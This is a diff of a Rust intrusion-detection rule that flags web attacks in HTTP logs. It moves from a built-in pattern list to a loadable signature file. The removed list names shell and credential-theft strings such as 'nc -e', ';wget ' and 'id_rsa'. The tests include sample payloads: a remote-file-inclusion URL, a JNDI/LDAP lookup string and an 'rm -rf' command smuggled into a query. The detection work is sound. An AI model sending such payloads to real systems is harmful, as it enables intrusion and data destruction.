@@ -1,9 +1,14 @@
 //! `web_attack`: requests whose URL, percent-decoded twice (attackers double-encode to slip past
-//! filters), carries SQL injection, path traversal, cross-site scripting, command injection, or
-//! a probe for a sensitive file. The matched pattern is kept in the details.
+//! filters), matches a signature of `queries/web_signatures.tsv`: SQL injection, path traversal,
+//! XSS, command injection, remote file inclusion, sensitive files, known exploit and CVE paths,
+//! admin-interface and WordPress probing, technology fingerprinting. The signatures are data
+//! (pattern, category, severity, severity when answered 2xx, reference); the `signatures_file`
+//! parameter replaces them with an analyst's own file of the same shape.
 
 use std::collections::BTreeMap;
+use std::sync::LazyLock;
 
+use aho_corasick::AhoCorasick;
 use polars::prelude::*;
 
 use crate::query::Run;
@@ -14,56 +19,108 @@ use super::finding::{Draft, Severity};
 use super::frame;
 use super::{Ctx, Rule};
 use crate::error::AnalysisError;
+use crate::schema::action;
 
-/// (category, lower-case pattern) pairs, checked against the decoded path and query.
-pub const PATTERNS: &[(&str, &str)] = &[
-    ("sql_injection", "' or '"),
-    ("sql_injection", "' or 1=1"),
-    ("sql_injection", " or 1=1"),
-    ("sql_injection", "union select"),
-    ("sql_injection", "union all select"),
-    ("sql_injection", "information_schema"),
-    ("sql_injection", "sleep("),
-    ("sql_injection", "benchmark("),
-    ("sql_injection", "waitfor delay"),
-    ("sql_injection", "xp_cmdshell"),
-    ("sql_injection", "'--"),
-    ("path_traversal", "../"),
-    ("path_traversal", "..\\"),
-    ("path_traversal", "/etc/passwd"),
-    ("path_traversal", "/etc/shadow"),
-    ("path_traversal", "/proc/self/"),
-    ("path_traversal", "c:\\windows"),
-    ("xss", "<script"),
-    ("xss", "javascript:"),
-    ("xss", "onerror="),
-    ("xss", "onload="),
-    ("xss", "<svg"),
-    ("xss", "document.cookie"),
-    ("command_injection", ";cat "),
-    ("command_injection", "|cat "),
-    ("command_injection", ";id"),
-    ("command_injection", "|id"),
-    ("command_injection", "$("),
-    ("command_injection", "`"),
-    ("command_injection", ";wget "),
-    ("command_injection", ";curl "),
-    ("command_injection", "/bin/sh"),
-    ("command_injection", "nc -e"),
-    ("sensitive_file", "/.env"),
-    ("sensitive_file", "/.git/"),
-    ("sensitive_file", "wp-config"),
-    ("sensitive_file", "/.htpasswd"),
-    ("sensitive_file", "/.aws/"),
-    ("sensitive_file", "/.ssh/"),
-    ("sensitive_file", "id_rsa"),
-    ("sensitive_file", "/phpinfo"),
-    ("sensitive_file", "/server-status"),
-    ("sensitive_file", "/.ds_store"),
-];
+/// The built-in signature file.
+pub const BUILTIN_SIGNATURES: &str = include_str!("../../queries/web_signatures.tsv");
 
-/// Regex every URL matching [`PATTERNS`] after decoding also matches before decoding.
-pub const PREFILTER: &str = r"(?i)[%'+<;|$`\\(]|\.\.|/\.|information_schema|etc/|proc/self|wp-config|phpinfo|server-status|id_rsa|xp_cmdshell|waitfor|javascript:|onerror=|onload=|document\.cookie|bin/sh|union|sleep|benchmark";
+/// One signature.
+#[derive(Debug, Clone)]
+pub struct Signature {
+    pub category: String,
+    pub severity: Severity,
+    pub severity_2xx: Severity,
+    /// Lower-case text looked for in the decoded, lower-cased URL.
+    pub pattern: String,
+    pub reference: String,
+}
+
+/// A loaded signature set with its matcher.
+pub struct Signatures {
+    pub list: Vec<Signature>,
+    matcher: AhoCorasick,
+    /// A regex every URL that can match after decoding also matches before decoding (any
+    /// pattern as written, or a `%`/`+` that decoding may turn into one), for polars to run
+    /// over the whole column before the URLs are decoded one by one.
+    pub prefilter: String,
+}
+
+impl Signatures {
+    /// Parses the tab-separated file; `origin` names it in errors.
+    pub fn parse(origin: &str, text: &str) -> Result<Signatures, String> {
+        let mut list = Vec::new();
+        let mut header_seen = false;
+        for (n, line) in text.lines().enumerate() {
+            if line.starts_with('#') || line.trim().is_empty() {
+                continue;
+            }
+            let f: Vec<&str> = line.split('\t').collect();
+            if !header_seen {
+                header_seen = true;
+                if f.first() == Some(&"category") {
+                    continue;
+                }
+            }
+            let [category, sev, sev2, pattern, reference] = f[..] else {
+                return Err(format!("{origin}:{}: expected 5 tab-separated fields, found {}", n + 1, f.len()));
+            };
+            let severity = |s: &str| {
+                Severity::parse(s)
+                    .ok_or(format!("{origin}:{}: severity {s:?} is not low, medium, high or critical", n + 1))
+            };
+            if pattern.is_empty() || reference.trim().is_empty() {
+                return Err(format!("{origin}:{}: a signature needs a pattern and a reference", n + 1));
+            }
+            list.push(Signature {
+                category: category.to_string(),
+                severity: severity(sev)?,
+                severity_2xx: severity(sev2)?,
+                pattern: pattern.to_lowercase(),
+                reference: reference.to_string(),
+            });
+        }
+        if list.is_empty() {
+            return Err(format!("{origin}: no signatures"));
+        }
+        let matcher =
+            AhoCorasick::new(list.iter().map(|s| s.pattern.as_str())).map_err(|e| format!("{origin}: {e}"))?;
+        let alternation: Vec<String> = list.iter().map(|s| regex_escape(&s.pattern)).collect();
+        let prefilter = format!("(?i)[%+]|{}", alternation.join("|"));
+        Ok(Signatures { list, matcher, prefilter })
+    }
+
+    /// The built-in set.
+    pub fn builtin() -> &'static Signatures {
+        static S: LazyLock<Signatures> = LazyLock::new(|| {
+            Signatures::parse("queries/web_signatures.tsv", BUILTIN_SIGNATURES).expect("built-in signatures parse")
+        });
+        &S
+    }
+
+    /// Indices of the signatures found in a decoded URL, the first of each category.
+    pub fn classify(&self, decoded: &str) -> Vec<usize> {
+        let mut out: Vec<usize> = Vec::new();
+        for m in self.matcher.find_overlapping_iter(decoded) {
+            let i = m.pattern().as_usize();
+            if !out.iter().any(|&j| self.list[j].category == self.list[i].category) {
+                out.push(i);
+            }
+        }
+        out.sort_unstable();
+        out
+    }
+}
+
+fn regex_escape(s: &str) -> String {
+    let mut out = String::with_capacity(s.len() * 2);
+    for c in s.chars() {
+        if "\\.+*?()|[]{}^$#&-~".contains(c) {
+            out.push('\\');
+        }
+        out.push(c);
+    }
+    out
+}
 
 /// Percent-decodes twice (`+` as space in the query), lower-cased.
 pub fn decode(path: &str, query: Option<&str>) -> String {
@@ -87,17 +144,6 @@ pub fn decode_fast<'a>(path: &'a str, query: Option<&'a str>) -> std::borrow::Co
     }
 }
 
-/// The first pattern of each category found in a decoded URL.
-pub fn classify(decoded: &str) -> Vec<(&'static str, &'static str)> {
-    let mut out: Vec<(&'static str, &'static str)> = Vec::new();
-    for (cat, pat) in PATTERNS {
-        if decoded.contains(pat) && !out.iter().any(|(c, _)| c == cat) {
-            out.push((cat, pat));
-        }
-    }
-    out
-}
-
 pub struct WebAttack;
 
 impl Rule for WebAttack {
@@ -105,20 +151,38 @@ impl Rule for WebAttack {
         "web_attack"
     }
     fn description(&self) -> &'static str {
-        "Requests whose URL (percent-decoded twice) carries SQL injection, path traversal, XSS, command injection or a sensitive-file probe; high when one of them got a 2xx answer."
+        "Requests whose URL (percent-decoded twice) matches a signature of queries/web_signatures.tsv (SQL injection, traversal, XSS, command injection, remote file inclusion, sensitive files, exploit and CVE paths, admin and WordPress probing, fingerprinting); severity from the signatures, raised when a matching request got a 2xx answer."
     }
     fn params(&self) -> Vec<Param> {
-        vec![Param::new("min_requests", Value::Int(1), "Matching requests from one source before it is reported.")]
+        vec![
+            Param::new("min_requests", Value::Int(1), "Matching requests from one source before it is reported."),
+            Param::new(
+                "signatures_file",
+                Value::Str(String::new()),
+                "A signature file (same columns as queries/web_signatures.tsv) to use instead of the built-in one; empty for the built-in.",
+            ),
+        ]
     }
     fn run(&self, ctx: &Ctx<'_>) -> Result<Vec<Draft>, AnalysisError> {
         let min = ctx.config.int(self.id(), "min_requests").max(1) as u64;
-        // A vectorised first pass keeps only URLs that could hold any pattern once decoded: every
-        // pattern needs an escape or one of these characters or words (a superset of `PATTERNS`).
-        let maybe = |c: &str| col(c).str().contains(lit(PREFILTER), false).fill_null(lit(false));
+        let file = ctx.config.list(self.id(), "signatures_file").into_iter().next().unwrap_or_default();
+        let own;
+        let sigs = if file.is_empty() {
+            Signatures::builtin()
+        } else {
+            let text = std::fs::read_to_string(&file)
+                .map_err(|e| AnalysisError::Rule { path: file.clone().into(), msg: e.to_string() })?;
+            own = Signatures::parse(&file, &text)
+                .map_err(|msg| AnalysisError::Rule { path: file.clone().into(), msg })?;
+            &own
+        };
+        // A vectorised first pass keeps only URLs that could hold any pattern once decoded.
+        let prefilter = sigs.prefilter.clone();
+        let maybe = |c: &str| col(c).str().contains(lit(prefilter.clone()), false).fill_null(lit(false));
         let all = ctx
             .data
             .events()?
-            .filter(col("event_action").eq(lit("http.request")).and(col("url_path").is_not_null()))
+            .filter(col("event_action").eq(lit(action::HTTP_REQUEST)).and(col("url_path").is_not_null()))
             .filter(maybe("url_path").or(maybe("url_query")))
             .select([
                 col("timestamp"),
@@ -136,7 +200,7 @@ impl Rule for WebAttack {
         let queries: Vec<Option<&str>> = all.column("url_query")?.str()?.iter().collect();
         let hit_rows: Vec<u32> = (0..paths.len())
             .into_par_iter()
-            .filter(|&i| !classify(&decode_fast(paths[i].unwrap_or(""), queries[i])).is_empty())
+            .filter(|&i| !sigs.classify(&decode_fast(paths[i].unwrap_or(""), queries[i])).is_empty())
             .map(|i| i as u32)
             .collect();
         let df = all
@@ -153,29 +217,29 @@ impl Rule for WebAttack {
         let file = frame::strs(&df, "log_file_path")?;
         let line = frame::ints(&df, "log_line")?;
         let mut by_source: BTreeMap<(String, String), Draft> = BTreeMap::new();
-        type Categories<'p> = BTreeMap<&'p str, (u64, String)>;
+        type Categories<'p> = BTreeMap<&'p str, (u64, &'p Signature)>;
         let mut cats: BTreeMap<(String, String), Categories<'_>> = BTreeMap::new();
         for i in 0..df.height() {
             let p = path[i].as_deref().unwrap_or("");
-            let hits = classify(&decode(p, query[i].as_deref()));
+            let hits = sigs.classify(&decode(p, query[i].as_deref()));
             if hits.is_empty() {
                 continue;
             }
             let key = (host[i].clone().unwrap_or_default(), ip[i].clone().unwrap_or_default());
             let d = by_source.entry(key.clone()).or_insert_with(|| {
-                let mut d = Draft::new("web_attack", Severity::Medium);
+                let mut d = Draft::new("web_attack", Severity::Low);
                 d.host_name = host[i].clone();
                 d.source_ip = ip[i].clone();
                 d
             });
             d.add(ts[i].unwrap_or(0), file[i].as_deref().unwrap_or(""), line[i].unwrap_or(0));
             d.count += 1;
-            if status[i].is_some_and(|s| (200..300).contains(&s)) {
-                d.severity = Severity::High;
-            }
+            let answered = status[i].is_some_and(|s| (200..300).contains(&s));
             let c = cats.entry(key).or_default();
-            for (cat, pat) in hits {
-                let e = c.entry(cat).or_insert((0, pat.to_string()));
+            for j in hits {
+                let sig = &sigs.list[j];
+                d.severity = d.severity.max(if answered { sig.severity_2xx } else { sig.severity });
+                let e = c.entry(sig.category.as_str()).or_insert((0, sig));
                 e.0 += 1;
             }
         }
@@ -186,9 +250,10 @@ impl Rule for WebAttack {
             }
             let c = &cats[&key];
             let names: Vec<&str> = c.keys().copied().collect();
-            for (cat, (n, pat)) in c {
+            for (cat, (n, sig)) in c {
                 d.details.insert(format!("{cat}_requests"), (*n).into());
-                d.details.insert(format!("{cat}_pattern"), pat.clone().into());
+                d.details.insert(format!("{cat}_pattern"), sig.pattern.clone().into());
+                d.details.insert(format!("{cat}_reference"), sig.reference.clone().into());
             }
             d.title = format!("Web attacks on {} from {}: {} ({} requests)", key.0, key.1, names.join(", "), d.count);
             out.push(d);
@@ -201,24 +266,65 @@ impl Rule for WebAttack {
 mod tests {
     use super::*;
 
+    fn cats(decoded: &str) -> Vec<String> {
+        let s = Signatures::builtin();
+        s.classify(decoded).into_iter().map(|i| s.list[i].category.clone()).collect()
+    }
+
     #[test]
     fn double_encoding_is_seen_through() {
         let d = decode("/products", Some("id=1%2520UNION%2520SELECT%2520password%2520FROM%2520users"));
-        assert_eq!(classify(&d), [("sql_injection", "union select")]);
+        assert_eq!(cats(&d), ["sql_injection"]);
         let d = decode("/index.php", Some("page=..%2F..%2Fetc%2Fpasswd"));
-        assert_eq!(classify(&d)[0].0, "path_traversal");
+        assert_eq!(cats(&d), ["path_traversal"]);
         let d = decode("/search", Some("q=%3Cscript%3Ealert(1)%3C/script%3E"));
-        assert_eq!(classify(&d), [("xss", "<script")]);
-        assert_eq!(classify(&decode("/.git/config", None)), [("sensitive_file", "/.git/")]);
-        assert!(classify(&decode("/products", Some("page=2&sort=price"))).is_empty());
-        assert!(classify(&decode("/img/logo.png", None)).is_empty());
-        // Everything the patterns catch gets through the prefilter.
-        let re = regex::Regex::new(PREFILTER).unwrap();
-        for (_, pat) in PATTERNS {
-            let raw = pat.replace(' ', "%20");
-            assert!(re.is_match(&raw), "prefilter misses {pat}");
-            assert!(re.is_match(&raw.to_uppercase()), "prefilter misses {pat} in upper case");
+        assert_eq!(cats(&d), ["xss"]);
+        assert_eq!(cats(&decode("/.git/config", None)), ["sensitive_file"]);
+        assert!(cats(&decode("/products", Some("page=2&sort=price"))).is_empty());
+        assert!(cats(&decode("/img/logo.png", None)).is_empty());
+    }
+
+    #[test]
+    fn probes_beyond_injection() {
+        assert_eq!(cats(&decode("/index.php", Some("file=http://198.51.100.9/shell.txt"))), ["rfi"]);
+        assert_eq!(cats(&decode("/_ignition/execute-solution", None)), ["exploit"]);
+        assert_eq!(cats(&decode("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", None)), ["exploit"]);
+        assert_eq!(cats(&decode("/boaform/admin/formLogin", Some("username=admin&psd=Feefifofum"))), ["exploit"]);
+        assert_eq!(cats(&decode("/HNAP1/", None)), ["exploit"]);
+        assert_eq!(cats(&decode("/GponForm/diag_Form", Some("images/"))), ["exploit"]);
+        assert_eq!(cats(&decode("/actuator/gateway/routes", None)), ["exploit"]);
+        assert_eq!(
+            cats(&decode("/setup.cgi", Some("next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*"))),
+            ["exploit"]
+        );
+        assert_eq!(cats(&decode("/phpMyAdmin/index.php", None)), ["admin_probe"]);
+        assert_eq!(cats(&decode("/manager/html", None)), ["admin_probe"]);
+        assert_eq!(cats(&decode("/wp-login.php", None)), ["wordpress"]);
+        assert_eq!(cats(&decode("/xmlrpc.php", None)), ["wordpress"]);
+        assert_eq!(cats(&decode("/wp-content/plugins/wp-file-manager/readme.txt", None)), ["wordpress"]);
+        assert_eq!(cats(&decode("/", Some("x=${jndi:ldap://198.51.100.9/a}"))), ["exploit"]);
+        assert_eq!(cats(&decode("/info.php", None)), ["tech_fingerprint"]);
+    }
+
+    #[test]
+    fn the_prefilter_passes_everything_a_signature_can_match() {
+        let s = Signatures::builtin();
+        let re = regex::Regex::new(&s.prefilter).unwrap();
+        for sig in &s.list {
+            let raw = sig.pattern.replace(' ', "%20");
+            assert!(re.is_match(&raw), "prefilter misses {}", sig.pattern);
+            assert!(re.is_match(&raw.to_uppercase()), "prefilter misses {} in upper case", sig.pattern);
         }
         assert!(!re.is_match("/products/42") && !re.is_match("page=3&sort=price"));
+    }
+
+    #[test]
+    fn signature_files_are_checked() {
+        assert!(Signatures::parse("x.tsv", "category\tseverity\tseverity_2xx\tpattern\treference\n").is_err());
+        let e = Signatures::parse("x.tsv", "xss\thuge\thigh\t<script\tref\n").err().unwrap();
+        assert!(e.contains("x.tsv:1") && e.contains("huge"), "{e}");
+        assert!(Signatures::parse("x.tsv", "xss\tlow\thigh\t<script\n").is_err(), "missing column");
+        let s = Signatures::parse("x.tsv", "# c\nxss\tlow\thigh\t<SCRIPT\tref\n").unwrap();
+        assert_eq!(s.classify("<script>"), [0]);
     }
 }
